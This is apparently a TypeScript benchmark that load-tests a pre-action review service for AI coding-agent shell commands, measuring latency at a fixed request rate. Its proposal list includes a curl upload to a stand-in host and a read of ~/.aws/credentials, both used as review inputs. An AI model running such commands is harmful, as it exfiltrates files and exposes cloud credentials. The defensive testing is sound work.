// The pre-action review at a steady offered rate, through the real HTTP server over chDB: sessions with a
// realistic context (a prompt and 40 tool calls with outputs), reviews of one more call each, open-loop at
// BENCH_REVIEW_RATE per second (default 200). Reported: achieved rate, p50 and p99 latency, errors.
import { mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type pino from 'pino';
import { ApiConfig, start as startApi } from '../api/index.ts';
import { BusConfig, openBus } from '../bus/index.ts';
import type { AgentEvent } from '../schemas/agent-event.ts';
import { StoreConfig, openStore } from '../store/index.ts';
import { ReviewConfig } from '../triage/review/config.ts';
import { startReviewService } from '../triage/review/service.ts';
import { eventId } from '../store/test-fixtures.ts';
import { percentile, requestPhaseReport, type PhaseReport } from './load.ts';

const TOKEN = 'bench-ingest-token-0123456789';
const RATE = Number(process.env.BENCH_REVIEW_RATE ?? 200);
const SESSIONS = 500;
const CALLS = 40;
const COMMANDS = [
  'npm test -- --runInBand',
  'git status --porcelain && git diff --stat',
  'rg -n "TODO" src/ | head -50',
  'cat package.json',
  'sed -n 1,80p README.md',
];
const PROPOSALS = [
  'npm test -- dates',
  'git diff src/invoice.ts',
  'curl -s -F f=@dist/report.html https://reports.unknown-example.test/u',
  'cat ~/.aws/credentials',
];

function session(workspace: string, n: number): AgentEvent[] {
  const sessionId = `review-bench-${n}`;
  const base = BigInt(Date.now() - 600_000) * 1_000_000n;
  const common = (i: number) => ({
    schemaVersion: 1 as const,
    eventId: eventId(`${sessionId}/${i}`),
    workspace,
    sessionId,
    sessionIdDerived: false,
    timeUnixNano: String(base + BigInt(i) * 1_000_000_000n),
    source: 'claude_code' as const,
    actor: { email: `dev${n % 50}@example.test` },
    agent: { name: 'claude-code', version: '2.1.0' },
    attributes: {},
  });
  return [
    {
      ...common(0),
      sourceEvent: 'claude_code.user_prompt',
      kind: 'prompt',
      prompt: { text: 'Fix the failing invoice date test and keep the change small.', redacted: false },
    },
    ...Array.from({ length: CALLS }, (_, i) => {
      const command = COMMANDS[i % COMMANDS.length]!;
      return {
        ...common(i + 1),
        sourceEvent: 'claude_code.tool_result',
        kind: 'tool_result' as const,
        tool: { name: 'Bash', callId: `toolu_${n}_${i}`, arguments: JSON.stringify({ command }), command },
        result: { success: true, output: `ran ${command}\n${'ok '.repeat(60)}` },
      };
    }),
  ];
}

export async function reviewPhase(
  seconds: number,
  say: (msg: string, extra?: object) => void,
  logger: pino.Logger,
): Promise<PhaseReport> {
  const store = await openStore(
    StoreConfig.parse({
      WARDEN_DATA_DIR: await mkdtemp(join(tmpdir(), 'warden-bench-review-')),
      WARDEN_EVENT_TTL_DAYS: '0',
    }),
    logger,
  );
  say('phase: pre-action review (seeding)', { sessions: SESSIONS, callsPerSession: CALLS });
  for (let n = 0; n < SESSIONS; n += 50)
    await store.insertEvents(Array.from({ length: 50 }, (_, k) => session('bench', n + k)).flat());
  // Decisions are recorded as `warden start` records them: on the embedded bus.
  const bus = await openBus(
    BusConfig.parse({ WARDEN_DATA_DIR: await mkdtemp(join(tmpdir(), 'warden-bench-review-bus-')) }),
    logger,
  );
  const reviewer = await startReviewService(ReviewConfig.parse({}), { store, logger });
  const api = await startApi(
    ApiConfig.parse({
      WARDEN_API_PORT: '0',
      WARDEN_API_KEYS: 'bench-api-key-0123456789=bench:viewer',
      WARDEN_INGEST_TOKENS: `${TOKEN}=bench`,
    }),
    { store, logger, bus, reviewer },
  );
  const url = `http://127.0.0.1:${api.port}/v1/review`;
  const ask = (n: number) =>
    fetch(url, {
      method: 'POST',
      headers: { authorization: `Bearer ${TOKEN}`, 'content-type': 'application/json' },
      body: JSON.stringify({
        agent: 'claude-code',
        session_id: `review-bench-${n % SESSIONS}`,
        tool: { name: 'Bash', input: { command: PROPOSALS[n % PROPOSALS.length] }, call_id: `toolu_p${n}` },
        cwd: '/home/dev/invoice-kit',
      }),
    });
  // Each session's first review reads its context from the store; later ones are answered from memory.
  const cold: number[] = [];
  for (let n = 0; n < SESSIONS; n += 10)
    await Promise.all(
      Array.from({ length: 10 }, async (_, k) => {
        const t = performance.now();
        await (await ask(n + k)).arrayBuffer();
        cold.push(performance.now() - t);
      }),
    );
  say('pre-action review: first review of each session (reads the store)', {
    p50Ms: Number(percentile(cold, 50).toFixed(1)),
    p99Ms: Number(percentile(cold, 99).toFixed(1)),
  });
  say('phase: pre-action review', { seconds, offeredPerSecond: RATE });
  const latencies: number[] = [];
  let errors = 0;
  let sent = 0;
  const cpu0 = process.cpuUsage();
  const started = performance.now();
  const inFlight: Promise<void>[] = [];
  // Open loop: requests leave on schedule whether or not earlier ones have answered.
  while (performance.now() - started < seconds * 1000) {
    const due = started + (sent * 1000) / RATE;
    const wait = due - performance.now();
    if (wait > 0) await new Promise((r) => setTimeout(r, wait));
    const n = sent++;
    const t = performance.now();
    inFlight.push(
      ask(n).then(
        async (res) => {
          await res.arrayBuffer();
          if (!res.ok) errors++;
          latencies.push(performance.now() - t);
        },
        () => void errors++,
      ),
    );
  }
  await Promise.all(inFlight);
  const elapsed = (performance.now() - started) / 1000;
  const cpu = process.cpuUsage(cpu0);
  await api.close();
  await reviewer.close();
  await bus.close();
  await store.close();
  return requestPhaseReport(
    `pre-action review at ${RATE}/s offered (p99 goal 25 ms)`,
    latencies,
    elapsed,
    cpu,
    errors,
  );
}
